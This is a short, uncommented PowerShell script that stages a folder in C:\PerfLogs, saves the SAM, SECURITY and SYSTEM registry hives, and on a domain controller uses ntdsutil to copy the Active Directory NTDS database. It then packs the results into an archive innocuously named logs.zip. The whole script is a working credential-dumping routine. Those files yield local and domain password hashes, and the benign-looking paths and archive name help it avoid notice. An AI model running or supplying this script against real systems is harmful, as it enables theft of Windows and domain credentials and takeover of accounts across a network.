$stage = 'C:\PerfLogs\x'
New-Item -Path $stage -ItemType Directory -Force | Out-Null

reg save HKLM\SAM "$stage\sam.sav" /y
reg save HKLM\SECURITY "$stage\security.sav" /y
reg.exe save HKLM\SYSTEM "$stage\system.sav" /y

if ((Get-CimInstance -ClassName Win32_OperatingSystem).ProductType -eq 2) {
    ntdsutil.exe "ac i ntds" "ifm" "create full $stage\ifm" q q
}

Compress-Archive -Path "$stage\*" -DestinationPath C:\PerfLogs\logs.zip -Force
